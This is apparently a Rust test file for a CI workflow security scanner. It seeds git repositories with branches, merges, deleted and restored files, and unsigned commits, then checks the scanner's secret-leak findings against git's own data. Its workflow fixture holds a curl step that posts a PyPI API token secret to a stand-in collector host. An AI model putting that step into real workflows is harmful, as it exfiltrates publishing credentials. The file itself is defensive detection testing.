//! git itself as the judge: which versions of which workflows a repository holds, what stands where, and who brought it.
//! Repositories are made from seeds: merges that no side agrees with, files that go and come back, links and submodules
//! among the workflows, references of every kind, objects that nothing reaches, packed and loose, both hashes.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::panic,
    reason = "a test fails by panicking"
)]

mod repository;

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::io::Write as _;
use std::process::{Command, Stdio};

use portcullis_scan::history::{self, Extra};
use portcullis_scan::{Options, objects, scan};
use repository::Repository;

/// `(path, object id)`.
type Versions = BTreeSet<(String, String)>;

const PATHS: &[&str] = &[
    ".github/workflows/ci.yml",
    ".github/workflows/release.yaml",
    ".github/workflows/security scan.yml",
    ".github/workflows/below/not-run.yml",
    ".github/workflows/notes.txt",
    ".github/actions/one/action.yml",
    ".github/actions/deep/down/here/action.yaml",
    ".github/dependabot.yml",
    ".gitea/workflows/ci.yml",
    ".forgejo/workflows/ci.yml",
    "action.yml",
    "sub/.github/workflows/ci.yml",
    "src/lib.rs",
];

/// What counts, said once more and independently of the scanner.
fn counts(path: &str) -> bool {
    let parts: Vec<&str> = path.split('/').collect();
    let yaml = path.ends_with(".yml") || path.ends_with(".yaml");
    match parts.as_slice() {
        [".github" | ".gitea" | ".forgejo", "workflows", _] => yaml,
        [".github" | ".gitea" | ".forgejo", .., name] => matches!(*name, "action.yml" | "action.yaml"),
        [name] => matches!(*name, "action.yml" | "action.yaml"),
        _ => false,
    }
}

struct Seeded(u64);

impl Seeded {
    fn below(&mut self, limit: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % limit as u64) as usize
    }

    fn one_in(&mut self, count: usize) -> bool {
        self.below(count) == 0
    }
}

fn workflow(host: usize) -> String {
    format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"${{{{ secrets.PYPI_API_TOKEN }}}}\" https://h{host}.collector.test/in\n"
    )
}

/// A stream for `git fast-import`.
fn stream(seed: u64, commits: usize) -> String {
    let mut dice = Seeded(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    let mut out = String::new();
    let mut branches: Vec<(String, usize)> = Vec::new();
    for mark in 1..=commits {
        let fresh = branches.is_empty() || dice.one_in(6);
        let at = if fresh { branches.len() } else { dice.below(branches.len()) };
        let parent = match branches.get(at) {
            Some((_, tip)) => Some(*tip),
            // A new branch from anywhere, or a history of its own.
            None => (mark > 1 && !dice.one_in(4)).then(|| 1 + dice.below(mark - 1)),
        };
        if fresh {
            let kind = dice.below(5);
            let name = match kind {
                0 => format!("refs/pull/{mark}/head"),
                1 => format!("refs/merge-requests/{mark}/head"),
                2 => format!("refs/tags/v{mark}"),
                _ => format!("refs/heads/b{mark}"),
            };
            branches.push((name, mark));
        }
        let name = branches[at].0.clone();
        branches[at].1 = mark;
        writeln!(
            out,
            "commit {name}\nmark :{mark}\nauthor A{} <a@example.test> {} +0000\ncommitter C <c@example.test> {} +0000\ndata 1\nx",
            mark % 3,
            1_700_000_000 + mark * 3_600,
            1_700_000_000 + mark * 3_600
        )
        .unwrap();
        if let Some(parent) = parent {
            writeln!(out, "from :{parent}").unwrap();
            if mark > 3 && dice.one_in(4) {
                // A merge; what it holds below is decided by dice, so most are evil ones.
                writeln!(out, "merge :{}", 1 + dice.below(mark - 1)).unwrap();
            }
        }
        for _ in 0..dice.below(4) {
            let path = PATHS[dice.below(PATHS.len())];
            match dice.below(12) {
                0..=2 => writeln!(out, "D {path}").unwrap(),
                3 => {
                    writeln!(out, "M 160000 {:040} {path}", mark).unwrap();
                }
                4 => writeln!(out, "M 120000 inline {path}\ndata 5\nci.md").unwrap(),
                kind => {
                    let text = workflow(dice.below(12));
                    let mode = if kind == 5 { "100755" } else { "100644" };
                    writeln!(out, "M {mode} inline {path}\ndata {}\n{text}", text.len()).unwrap();
                }
            }
        }
        if dice.one_in(12) {
            // The whole folder becomes a file: what stood in it is gone.
            writeln!(out, "M 100644 inline .github\ndata 2\nx").unwrap();
        }
    }
    out
}

fn import(repository: &Repository, stream: &str, unpack: bool) {
    let limit = format!("fastimport.unpackLimit={}", if unpack { 1_000_000 } else { 1 });
    let mut child = Command::new("git")
        .args(["-c", &limit, "fast-import", "--quiet", "--force"])
        .current_dir(repository.path())
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stream.as_bytes()).unwrap();
    assert!(child.wait().unwrap().success());
}

/// All that git says about a repository.
struct Oracle {
    parents: BTreeMap<String, Vec<String>>,
    files: BTreeMap<String, Versions>,
    heads: BTreeMap<String, String>,
}

impl Oracle {
    fn ask(repository: &Repository) -> Self {
        let listed =
            repository.git(&["cat-file", "--batch-all-objects", "--batch-check=%(objecttype) %(objectname)"]);
        let commits: Vec<&str> = listed.lines().filter_map(|line| line.strip_prefix("commit ")).collect();
        let mut oracle = Self { parents: BTreeMap::new(), files: BTreeMap::new(), heads: BTreeMap::new() };
        for commit in commits {
            let text = repository.git(&["cat-file", "-p", commit]);
            let head = text.split("\n\n").next().unwrap();
            let parents = head.lines().filter_map(|line| line.strip_prefix("parent "));
            oracle.parents.insert(commit.to_owned(), parents.map(str::to_owned).collect());
            let tree = repository.git(&["ls-tree", "-r", "-z", commit]);
            let files = tree.split('\0').filter_map(|line| {
                let (what, path) = line.split_once('\t')?;
                let mut what = what.split(' ');
                let (mode, _, id) = (what.next()?, what.next()?, what.next()?);
                (mode.starts_with("100") && counts(path)).then(|| (path.to_owned(), id.to_owned()))
            });
            oracle.files.insert(commit.to_owned(), files.collect());
        }
        for line in
            repository.git(&["for-each-ref", "--format=%(refname) %(objectname) %(*objectname)"]).lines()
        {
            let parts: Vec<&str> = line.split(' ').collect();
            let commit = parts.iter().skip(1).rfind(|id| !id.is_empty()).unwrap();
            oracle.heads.insert(parts[0].to_owned(), (*commit).to_owned());
        }
        oracle
    }

    fn versions(&self) -> Versions {
        self.files.values().flatten().cloned().collect()
    }

    fn history(&self, head: &str) -> BTreeSet<String> {
        let mut seen = BTreeSet::new();
        let mut open = vec![head.to_owned()];
        while let Some(commit) = open.pop() {
            if seen.insert(commit.clone()) {
                open.extend(self.parents[&commit].iter().cloned());
            }
        }
        seen
    }

    fn holds(&self, commit: &str, path: &str, versions: &BTreeSet<&str>) -> bool {
        self.files[commit].iter().any(|(at, id)| at == path && versions.contains(id.as_str()))
    }
}

fn check(repository: &Repository, what: &str) {
    let oracle = Oracle::ask(repository);
    let git = repository.path().join(".git");
    let read = history::read(&objects::open(&git).unwrap(), &Extra::default());
    assert!(read.problems.is_empty(), "{what}: {:?}", read.problems);
    let visited: Versions = read
        .commits
        .iter()
        .flat_map(|commit| commit.files.iter().map(|(path, id)| (path.clone(), id.to_string())))
        .collect();
    assert_eq!(visited, oracle.versions(), "{what}: versions visited");
    assert_eq!(read.commits.len(), oracle.parents.len(), "{what}: commits");

    let report = scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() });
    let mut found = Versions::new();
    for finding in report.document.findings.iter().filter(|finding| finding.rule == "secret-to-host") {
        let path = finding.path.unescaped();
        for exposure in &finding.exposures {
            let versions: BTreeSet<&str> = exposure.versions.iter().map(String::as_str).collect();
            found.extend(versions.iter().map(|id| (path.to_owned(), (*id).to_owned())));
            for (name, head) in &oracle.heads {
                let history = oracle.history(head);
                let brought: BTreeSet<&String> = history
                    .iter()
                    .filter(|commit| {
                        oracle.holds(commit, path, &versions)
                            && !oracle.parents[*commit]
                                .iter()
                                .any(|parent| oracle.holds(parent, path, &versions))
                    })
                    .collect();
                let spans: Vec<_> =
                    exposure.refs.iter().filter(|span| span.name.unescaped() == name).collect();
                let stands = oracle.holds(head, path, &versions);
                let context = format!("{what}: {path} on {name}: {spans:?}");
                assert_eq!(spans.is_empty(), brought.is_empty(), "{context}");
                assert!(spans.iter().all(|span| brought.contains(&span.introduced)), "{context}");
                assert_eq!(spans.iter().any(|span| span.removed.is_none()), stands, "{context}");
                for removed in spans.iter().filter_map(|span| span.removed.as_ref()) {
                    assert!(history.contains(&removed.commit), "{context}");
                    assert!(!oracle.holds(&removed.commit, path, &versions), "{context}");
                }
            }
        }
    }
    assert_eq!(found, oracle.versions(), "{what}: versions analysed");
}

#[test]
fn what_stands_where_is_what_git_says() {
    for seed in 1..=12 {
        let repository = Repository::new();
        import(&repository, &stream(seed, 40), seed % 2 == 0);
        if seed % 3 == 0 {
            // What a force-push leaves behind: nothing reaches it.
            for line in repository.git(&["for-each-ref", "--format=%(refname)"]).lines().step_by(2) {
                repository.git(&["update-ref", "-d", line]);
            }
        }
        if seed % 4 == 0 {
            repository.git(&["repack", "-q", "-d"]);
            repository.git(&["pack-refs", "--all"]);
        }
        check(&repository, &format!("seed {seed}"));
    }
}

#[test]
fn two_packs_and_loose_objects_beside_them() {
    let repository = Repository::new();
    import(&repository, &stream(101, 30), false);
    import(&repository, &stream(102, 30), false);
    import(&repository, &stream(103, 30), true);
    check(&repository, "mixed");
}

const PATH: &str = ".github/workflows/security.yml";

fn theft(repository: &Repository) -> portcullis_scan::report::Finding {
    let report = scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() });
    let mut findings = report.document.findings.into_iter();
    findings.find(|finding| finding.path.unescaped() == PATH && finding.rule == "secret-to-host").unwrap()
}

/// Taken out and put back: two spans on the same reference, the older one ended.
#[test]
fn what_comes_back_has_two_spans() {
    let repository = Repository::new();
    repository.write("a", "a");
    repository.commit("Begin");
    repository.write(PATH, &workflow(1));
    let first = repository.commit("Add");
    repository.remove(PATH);
    let removed = repository.commit("Take out");
    repository.write("a", "b");
    repository.commit("Work");
    repository.write(PATH, &workflow(1));
    let second = repository.commit("Back");
    let finding = theft(&repository);
    let spans: Vec<_> = finding.exposures[0]
        .refs
        .iter()
        .filter(|span| span.name.unescaped() == "refs/heads/main")
        .map(|span| (span.introduced.clone(), span.removed.as_ref().map(|moment| moment.commit.clone())))
        .collect();
    assert_eq!(spans, [(first.clone(), Some(removed)), (second, None)]);
    assert_eq!(finding.exposures[0].introduced.as_ref().unwrap().commit, first);
}

fn has(finding: &portcullis_scan::report::Finding, signal: &str) -> bool {
    finding.signals.iter().any(|known| known == signal)
}

#[test]
fn the_commit_tells_on_itself() {
    for (message, beside, alone, masked) in [
        ("Add security workflow", None, true, true),
        ("Add security workflow", Some("src/x"), false, true),
        ("Add release", None, true, false),
        ("security", None, true, false),
    ] {
        for earlier in [".github/workflows/ci.yml", "README"] {
            let repository = Repository::new();
            repository.write(earlier, "on: push\n");
            repository.commit("Begin");
            repository.write(PATH, &workflow(1));
            if let Some(path) = beside {
                repository.write(path, "x");
            }
            repository.commit(message);
            let finding = theft(&repository);
            assert_eq!(has(&finding, "single-file-commit"), alone, "{message} {beside:?} {earlier}");
            assert_eq!(has(&finding, "masking-message"), masked, "{message}");
            assert!(!has(&finding, "missing-signature"));
        }
    }
}

#[test]
fn a_signature_is_missed_where_commits_are_signed() {
    for (signed, unsigned, missed) in [(9, 1, true), (8, 2, false), (4, 0, false), (5, 0, true)] {
        let repository = Repository::new();
        repository.write("a", "a");
        repository.git(&["add", "-A"]);
        let tree = repository.git(&["write-tree"]).trim().to_owned();
        let mut parent = String::new();
        for number in 0..signed + unsigned {
            let signature = if number < signed {
                "gpgsig -----BEGIN PGP SIGNATURE-----\n \n x\n -----END PGP SIGNATURE-----\n"
            } else {
                ""
            };
            let time = 1_756_800_000 + number;
            let text = format!(
                "tree {tree}\n{parent}author A <a@example.test> {time} +0000\ncommitter A <a@example.test> {time} +0000\n{signature}\nx\n"
            );
            let file = repository.path().join("commit-text");
            std::fs::write(&file, text).unwrap();
            let id = repository.git(&["hash-object", "-t", "commit", "-w", "commit-text"]);
            std::fs::remove_file(file).unwrap();
            parent = format!("parent {}\n", id.trim());
            repository.git(&["update-ref", "refs/heads/main", id.trim()]);
        }
        repository.write(PATH, &workflow(1));
        repository.commit("Add");
        assert_eq!(
            has(&theft(&repository), "missing-signature"),
            missed,
            "{signed} of {}",
            signed + unsigned
        );
    }
}

/// What only a detached `HEAD` has is found and named; whose it is, that doesn't say.
#[test]
fn a_detached_head_is_a_place() {
    let repository = Repository::new();
    repository.write("a", "a");
    repository.commit("Begin");
    repository.git(&["checkout", "-q", "--detach"]);
    repository.write(PATH, &workflow(1));
    let commit = repository.commit("Add");
    let finding = theft(&repository);
    let spans = &finding.exposures[0].refs;
    assert!(
        spans.iter().any(|span| span.name.unescaped() == "HEAD"
            && span.introduced == commit
            && span.removed.is_none())
    );
    assert_eq!(finding.standing, portcullis_scan::report::Standing::Foreign);
}
